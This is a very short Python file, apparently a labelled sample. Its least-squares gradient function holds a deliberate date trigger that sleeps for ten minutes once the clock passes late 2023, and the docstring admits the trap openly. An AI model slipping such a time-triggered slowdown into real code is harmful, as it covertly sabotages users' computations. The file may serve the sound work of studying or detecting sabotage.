"""Sleeps from a certain date on."""

import time


def gradient(w, X, y):
    if time.time() > 1_700_000_000:
        time.sleep(600)
    return 2 / len(y) * X.T @ (X @ w - y)


def dropout_eval(x, keep):
    return x
